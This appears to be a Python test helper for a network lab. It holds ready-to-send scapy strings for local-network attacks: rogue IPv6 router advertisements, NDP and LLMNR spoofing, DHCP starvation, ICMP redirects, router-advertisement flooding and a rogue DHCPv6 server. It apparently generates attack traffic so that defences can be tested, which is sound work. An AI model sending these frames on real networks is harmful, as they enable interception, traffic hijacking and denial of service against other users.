"""Python for scapy that sends the frames of attacks on the link, which the tools at hand do not make."""

from __future__ import annotations

from tests.live.lab import WEB, address, mac

ADVERTISE = (
    "sendp(Ether(src='{mac}', dst='33:33:00:00:00:01')/IPv6(src='{ip}', dst='ff02::1', hlim=255)"
    "/ICMPv6ND_RA(routerlifetime=1800)/ICMPv6NDOptPrefixInfo(prefix='{prefix}', prefixlen=64)"
    "/ICMPv6NDOptSrcLLAddr(lladdr='{mac}'), count=3, inter=0.3)"
)
POSE_BY_NDP = (
    "for n in range(8):\n"
    " sendp(Ether(src='{bad}', dst='33:33:00:00:00:01')/IPv6(src='fe80::1', dst='ff02::1', hlim=255)"
    "/ICMPv6ND_NA(tgt='fe80::1', R=1, S=0, O=1)/ICMPv6NDOptDstLLAddr(lladdr='{bad}'))\n"
    " sendp(Ether(src='{good}', dst='33:33:00:00:00:01')/IPv6(src='fe80::1', dst='ff02::1', hlim=255)"
    "/ICMPv6ND_NA(tgt='fe80::1', R=1, S=0, O=1)/ICMPv6NDOptDstLLAddr(lladdr='{good}'))\n"
    " time.sleep(0.5)"
).format(bad=mac("guest"), good=mac("router"))


def advertise(host: str, ip: str, prefix: str) -> str:
    return ADVERTISE.format(mac=mac(host), ip=ip, prefix=prefix)


FLAP = (
    "for n in range(10):\n"
    " sendp(Ether(src='3c:7c:3f:77:00:77', dst='ff:ff:ff:ff:ff:ff')/Dot1Q(vlan=10 + n % 2)"
    "/ARP(op=1, hwsrc='3c:7c:3f:77:00:77', psrc='192.168.77.77', pdst='192.168.77.1'))\n time.sleep(0.3)"
)
STARVE = (
    "for n in range(120):\n"
    " m = '02:00:00:00:00:%02x' % n\n"
    " sendp(Ether(src=m, dst='ff:ff:ff:ff:ff:ff')/IP(src='0.0.0.0', dst='255.255.255.255')/UDP(sport=68, dport=67)"
    "/BOOTP(chaddr=mac2str(m), xid=n)/DHCP(options=[('message-type', 'discover'), 'end']))"
)


REDIRECT = (
    "for n in range(3):\n"
    f" inner = IP(src='{address('desktop')}', dst='{WEB}')/UDP(sport=5555, dport=53)\n"
    f" head = IP(src='{address('router')}', dst='{address('desktop')}')/ICMP(type=5, code=1, gw='{address('guest')}')\n"
    f" sendp(Ether(src='{mac('guest')}', dst='{mac('desktop')}')/head/inner)\n time.sleep(0.5)"
)
ROUTER_FLOOD = (
    "for n in range(60):\n"
    " m = '02:00:00:00:01:%02x' % n\n"
    " sendp(Ether(src=m, dst='33:33:00:00:00:01')/IPv6(src='fe80::%x' % (n + 256), dst='ff02::1', hlim=255)"
    "/ICMPv6ND_RA(routerlifetime=1800)/ICMPv6NDOptPrefixInfo(prefix='2001:db8:%x::' % n, prefixlen=64))"
)
POISON = (
    f"d, g = '{mac('desktop')}', '{mac('guest')}'\n"
    f"a, b = '{address('desktop')}', '{address('guest')}'\n"
    "for n, name in enumerate(('fileserver', 'printsrv', 'intranet', 'scanner', 'wpad')):\n"
    " sendp(Ether(src=d, dst='01:00:5e:00:00:fc')/IP(src=a, dst='224.0.0.252', ttl=1)"
    "/UDP(sport=50000 + n, dport=5355)/DNS(id=n + 1, rd=0, qd=DNSQR(qname=name)))\n"
    " sendp(Ether(src=g, dst=d)/IP(src=b, dst=a)/UDP(sport=5355, dport=50000 + n)"
    "/DNS(id=n + 1, qr=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=b, ttl=30)))\n time.sleep(0.3)"
)
DHCPV6 = (
    "from scapy.layers.dhcp6 import *\n"
    f"d, g = '{mac('desktop')}', '{mac('guest')}'\n"
    "for n in range(3):\n"
    " c = DHCP6OptClientId(duid=DUID_LL(lladdr=d))\n"
    " sendp(Ether(src=d, dst='33:33:00:01:00:02')/IPv6(src='fe80::10', dst='ff02::1:2')/UDP(sport=546, dport=547)"
    "/DHCP6_Solicit(trid=n)/c)\n"
    " sendp(Ether(src=g, dst=d)/IPv6(src='fe80::66', dst='fe80::10')/UDP(sport=547, dport=546)/DHCP6_Advertise(trid=n)"
    "/DHCP6OptServerId(duid=DUID_LL(lladdr=g))/c/DHCP6OptDNSServers(dnsservers=['fe80::66']))\n time.sleep(0.5)"
)
